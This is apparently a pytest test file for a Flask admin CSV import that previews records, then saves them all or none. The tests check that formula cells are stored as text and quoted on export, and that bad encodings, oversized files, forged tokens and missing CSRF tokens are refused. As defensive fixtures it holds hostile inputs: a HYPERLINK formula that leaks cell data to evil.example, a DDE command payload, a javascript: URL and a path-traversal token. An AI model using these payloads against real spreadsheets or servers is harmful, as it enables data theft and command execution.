"""Spreadsheet import in the admin: the reader `tangthu import` uses, a preview, then one
all-or-nothing save; hostile files are refused with a clear message and nothing written."""

from __future__ import annotations

import csv
import html as html_text
import io
import re
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner

from repository.admin.imports import MAX_UPLOAD_BYTES, MAX_UPLOAD_ROWS
from repository.extensions import db
from repository.models import AuditEvent, Collection, Item
from tests.helpers import csrf_token, sign_in

EN = {"Accept-Language": "en"}
VI = {"Accept-Language": "vi"}
HEADER = "title_vi,title_en,creator,year_start,year_end,url\n"


def _run(runner: FlaskCliRunner, *args: str) -> None:
    result = runner.invoke(args=list(args))
    assert result.exit_code == 0, result.output


@pytest.fixture
def collection(app: Flask) -> int:
    with app.app_context():
        found = Collection(slug="doi-tac", title={"vi": "Đối tác", "en": "Partners"})
        db.session.add(found)
        db.session.commit()
        return found.id


def _client(app: Flask, runner: FlaskCliRunner, role: str, name: str) -> FlaskClient:
    _run(runner, "create-user", f"--{role}", name, "--password", f"mat-khau-{name}")
    client = app.test_client()
    sign_in(client, name, f"mat-khau-{name}")
    return client


@pytest.fixture
def curator(app: Flask, runner: FlaskCliRunner) -> FlaskClient:
    return _client(app, runner, "curator", "thuthu")


def _upload(  # type: ignore[no-untyped-def]
    client: FlaskClient, body: bytes, collection: int, name: str = "records.csv", **more
):
    token = csrf_token(client.get("/admin/import").get_data(as_text=True))
    data = {
        "csrf_token": token,
        "collection": str(collection),
        "spreadsheet": (io.BytesIO(body), name),
        **more,
    }
    headers = more.pop("headers", EN)
    return client.post("/admin/import", data=data, headers=headers)


def _confirm(client: FlaskClient, preview: str) -> dict[str, str]:
    fields = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', preview))
    assert {"csrf_token", "token", "collection"} <= set(fields)
    return fields


def _text(response) -> str:  # type: ignore[no-untyped-def]
    return html_text.unescape(re.sub(r"\s+", " ", response.get_data(as_text=True)))


def _items(app: Flask) -> list[Item]:
    with app.app_context():
        items = list(db.session.execute(db.select(Item)).scalars())
        for item in items:
            db.session.expunge(item)
        return items


def test_upload_preview_confirm_imports_every_row(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    body = (
        HEADER + "Truyện Kiều,The Tale of Kieu,Nguyễn Du,1820,,https://partner.example/kieu\n"
        "Lục Vân Tiên,,Nguyễn Đình Chiểu,1851,1854,\n"
    ).encode()
    preview = _upload(curator, body, collection, publish="y")
    assert preview.status_code == 200
    page = _text(preview)
    assert "2 records are ready to import" in page and "Nguyễn Đình Chiểu" in page
    assert _items(app) == []  # nothing is saved by the preview
    fields = _confirm(curator, preview.get_data(as_text=True))
    assert fields["publish"] == "y"
    response = curator.post("/admin/import/confirm", data=fields, headers=EN)
    assert response.status_code == 302
    items = {item.title["vi"]: item for item in _items(app)}
    assert set(items) == {"Truyện Kiều", "Lục Vân Tiên"}
    assert items["Lục Vân Tiên"].year_end == 1854
    assert all(item.status == "published" for item in items.values())
    with app.app_context():
        audit = db.session.execute(db.select(AuditEvent).filter_by(action="import")).scalar_one()
        assert (audit.actor, audit.target) == ("thuthu", "doi-tac")
    # The preview is used once: sent again, it has expired.
    again = curator.post("/admin/import/confirm", data=fields, headers=EN)
    assert again.status_code == 302 and len(_items(app)) == 2


def test_bad_rows_are_all_named_and_nothing_is_imported(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    body = (
        HEADER + "Tốt,,,1800,,\n"
        ",,Không tên,,,\n"
        "Năm sai,,,một nghìn,,\n"
        "Ngược,,,1900,1800,\n"
        "Liên kết,,,,,javascript:alert(1)\n"
    ).encode()
    response = _upload(curator, body, collection)
    assert response.status_code == 422
    page = _text(response)
    assert "Nothing was imported." in page and "4 bad rows" in page
    for row in ("row 2", "row 3", "row 4", "row 5"):
        assert row in page
    assert "không có gì được nhập" in _text(_upload(curator, body, collection, headers=VI)).lower()
    assert _items(app) == []


def test_formula_cells_are_kept_as_text_and_exported_quoted(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["title_vi", "creator"])
    writer.writerow([formula, "@SUM(1+1)*cmd|' /C calc'!A0"])
    preview = _upload(curator, rows.getvalue().encode(), collection, publish="y")
    assert preview.status_code == 200
    assert "<script" not in preview.get_data(as_text=True).lower()
    fields = _confirm(curator, preview.get_data(as_text=True))
    assert curator.post("/admin/import/confirm", data=fields).status_code == 302
    [item] = _items(app)
    assert item.title["vi"] == formula  # kept as the text it is, never evaluated
    exported = app.test_client().get("/opendata/items.csv").get_data(as_text=True)
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["title_vi"] == "'" + formula  # a spreadsheet opening it shows text


def test_a_file_that_is_not_utf8_is_refused(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    for encoding in ("utf-16", "latin-1"):  # Excel's "Unicode text", and an old export
        body = (HEADER + "Mémoire sur la Cochinchine,,Poivre,1750,,\n").encode(encoding)
        response = _upload(curator, body, collection)
        assert response.status_code == 422, encoding
        assert "not a UTF-8 CSV file" in _text(response), encoding
    assert _items(app) == []
    # Control characters (a NUL, a bell) are taken out, as the CLI takes them out.
    preview = _upload(curator, HEADER.encode() + b"a\x00b\x07c,,,,,\n", collection)
    assert preview.status_code == 200
    fields = _confirm(curator, preview.get_data(as_text=True))
    assert curator.post("/admin/import/confirm", data=fields).status_code == 302
    assert [item.title["vi"] for item in _items(app)] == ["abc"]


def test_a_file_too_large_or_too_long_is_refused(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    huge = HEADER.encode() + b"x" * MAX_UPLOAD_BYTES
    response = _upload(curator, huge, collection)
    assert response.status_code == 413
    assert "larger than 5 MB" in _text(response)
    many = HEADER + "".join(f"Sách {n},,,,,\n" for n in range(MAX_UPLOAD_ROWS + 1))
    response = _upload(curator, many.encode(), collection)
    assert response.status_code == 413
    assert f"at most {MAX_UPLOAD_ROWS}" in _text(response)
    assert _items(app) == []
    assert not list((Path(app.instance_path) / "imports").glob("*/*"))  # nothing left staged


def test_not_a_csv_and_not_an_open_data_header(
    app: Flask, curator: FlaskClient, collection: int
) -> None:
    assert _upload(curator, b"MZ\x90\x00", collection, name="run.exe").status_code == 422
    response = _upload(curator, b"path,title\nfolder,Kieu\n", collection)
    assert response.status_code == 422 and "title_vi or title_en" in _text(response)
    assert _items(app) == []


def test_a_preview_is_only_its_uploaders(
    app: Flask, runner: FlaskCliRunner, curator: FlaskClient, collection: int
) -> None:
    preview = _upload(curator, (HEADER + "Của tôi,,,,,\n").encode(), collection)
    fields = _confirm(curator, preview.get_data(as_text=True))
    other = _client(app, runner, "curator", "thuthu2")
    token = csrf_token(other.get("/admin/import").get_data(as_text=True))
    response = other.post("/admin/import/confirm", data={**fields, "csrf_token": token})
    assert response.status_code == 302 and _items(app) == []
    forged = {**fields, "token": "../../../etc"}
    assert curator.post("/admin/import/confirm", data=forged).status_code == 302
    assert _items(app) == []


def test_readers_visitors_and_forms_without_csrf_are_refused(
    app: Flask, runner: FlaskCliRunner, curator: FlaskClient, collection: int
) -> None:
    reader = _client(app, runner, "reader", "docgia")
    assert reader.get("/admin/import").status_code == 403
    assert app.test_client().get("/admin/import").status_code == 302
    body = {"collection": str(collection), "spreadsheet": (io.BytesIO(b"title_vi\nA\n"), "a.csv")}
    assert curator.post("/admin/import", data=body).status_code == 400
    preview = _upload(curator, b"title_vi\nA\n", collection)
    fields = _confirm(curator, preview.get_data(as_text=True))
    del fields["csrf_token"]
    assert curator.post("/admin/import/confirm", data=fields).status_code == 400
    assert _items(app) == []
